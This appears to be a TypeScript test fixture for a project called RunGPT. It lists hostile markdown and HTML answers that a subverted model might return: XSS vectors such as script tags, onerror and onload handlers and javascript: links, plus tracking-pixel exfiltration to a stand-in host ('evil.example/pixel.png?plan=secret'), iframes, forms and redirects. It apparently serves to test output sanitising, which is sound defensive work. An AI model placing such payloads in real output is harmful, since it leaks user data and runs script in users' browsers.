/** An address that no page of RunGPT may ever ask. */
export const ELSEWHERE = "https://evil.example";

/** Answers of a model that was turned against the runner: each tries to load, run or lead to something. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  `![tracker](${ELSEWHERE}/pixel.png?plan=secret)`,
  `![tracker][ref]\n\n[ref]: ${ELSEWHERE}/pixel.png`,
  `<img src="${ELSEWHERE}/p.png" onerror="document.title='hacked'">`,
  "<script>document.title = 'hacked'</script>",
  `<script src="${ELSEWHERE}/x.js"></script>`,
  "<svg onload=\"document.title='hacked'\"></svg>",
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<style>@import url("${ELSEWHERE}/x.css");</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `<video autoplay src="${ELSEWHERE}/x.mp4"></video>`,
  `<form action="${ELSEWHERE}"><button>Apply</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  "[run me](javascript:document.title='hacked')",
  "[run me](JaVaScRiPt:document.title='hacked')",
  "[run me](data:text/html,<script>document.title='hacked'</script>)",
  `[leave](${ELSEWHERE})`,
  `<${ELSEWHERE}/auto>`,
  `[outer ![inner](${ELSEWHERE}/i.png)](${ELSEWHERE})`,
  "**bold <b onclick=\"document.title='hacked'\">x</b>**",
  `> quote ![q](${ELSEWHERE}/q.png)\n\n- item <img src=x onerror=alert(1)>`,
  `\`\`\`html\n<img src="${ELSEWHERE}/code.png">\n\`\`\``,
  `# ![heading](${ELSEWHERE}/h.png "title")`,
  "&lt;script&gt;document.title='hacked'&lt;/script&gt;",
];
